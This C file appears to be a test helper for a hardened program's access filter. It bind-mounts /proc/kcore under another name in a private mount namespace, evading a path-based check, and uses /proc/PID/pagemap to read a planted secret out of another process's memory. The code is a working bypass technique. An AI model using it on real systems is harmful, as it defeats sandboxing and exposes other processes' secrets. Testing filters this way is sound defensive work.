/* rev36-kcore-bind.c - a program run by execve under a hardened program's
 * filter (not our process): it reads another process's page through
 * /proc/kcore bound under another name in a mount namespace of its own.
 *
 * rev36-kcore-bind PID ADDR: finds the physical page behind PID's ADDR
 * (hex) in /proc/PID/pagemap and reads 31 bytes there through kcore. */
#define _GNU_SOURCE
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <unistd.h>

#include "helper-steps.h"

/* The physical address behind PID's ADDR, or 0. */
static uint64_t physical(const char *pid, uint64_t addr) {
  char path[64];
  uint64_t e = 0;
  snprintf(path, sizeof path, "/proc/%s/pagemap", pid);
  int fd = open(path, O_RDONLY);
  if (!step(fd >= 0, "open pagemap") ||
      !step(pread(fd, &e, 8, (off_t)(addr / 4096 * 8)) == 8, "read pagemap"))
    return 0;
  close(fd);
  uint64_t pfn = e & ((1ULL << 55) - 1);
  printf("helper: pagemap entry present %d, pfn %s\n", (int)(e >> 63),
         pfn ? "shown" : "hidden");
  return e >> 63 && pfn ? pfn * 4096 + addr % 4096 : 0;
}

/* Reads 31 bytes at physical address PHYS from kcore (descriptor fd). */
static int read_physical(int fd, uint64_t phys, char *buf) {
  Elf64_Ehdr eh;
  if (pread(fd, &eh, sizeof eh, 0) != (ssize_t)sizeof eh ||
      memcmp(eh.e_ident, ELFMAG, SELFMAG))
    return -1;
  for (int i = 0; i < eh.e_phnum; i++) {
    Elf64_Phdr ph;
    if (pread(fd, &ph, sizeof ph, (off_t)(eh.e_phoff + i * sizeof ph)) !=
        (ssize_t)sizeof ph)
      return -1;
    /* the direct map's segments give their physical address */
    if (ph.p_type == PT_LOAD && ph.p_paddr != (Elf64_Addr)-1 &&
        phys >= ph.p_paddr && phys - ph.p_paddr + 31 <= ph.p_memsz)
      return pread(fd, buf, 31, (off_t)(ph.p_offset + phys - ph.p_paddr)) ==
                     31
                 ? 0
                 : -1;
  }
  return -1;
}

int main(int argc, char **argv) {
  if (argc < 3)
    return 2;
  setvbuf(stdout, NULL, _IONBF, 0);
  char buf[32] = {0};
  /* The control: under its own name the supervisor refuses it. */
  int fd = open("/proc/kcore", O_RDONLY);
  printf("helper: plain open of /proc/kcore: %s\n",
         fd < 0 ? strerror(errno) : "opened");
  if (fd >= 0)
    close(fd);
  uint64_t phys = physical(argv[1], strtoull(argv[2], NULL, 16));
  if (!phys)
    return 1;
  if (!step(!unshare(CLONE_NEWNS), "unshare(CLONE_NEWNS)") ||
      !step(!mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL),
            "mount private") ||
      !step(!mount("none", "/tmp", "tmpfs", 0, NULL), "mount tmpfs /tmp") ||
      !step(touch("/tmp/k"), "create /tmp/k") ||
      !step(!mount("/proc/kcore", "/tmp/k", NULL, MS_BIND, NULL), "bind"))
    return 1;
  /* Mode 0400, not 0600, and the name read back is /tmp/k. */
  fd = open("/tmp/k", O_RDONLY);
  if (!step(fd >= 0, "open /tmp/k"))
    return 1;
  if (read_physical(fd, phys, buf))
    printf("helper: no kcore segment holds the page\n");
  else if (!strncmp(buf, "TOP-SECRET", 10))
    printf("ATTACK SUCCEEDED: read '%s' through /proc/kcore bound at /tmp/k\n",
           buf);
  else
    printf("helper: read something else\n");
  close(fd);
  return 0;
}
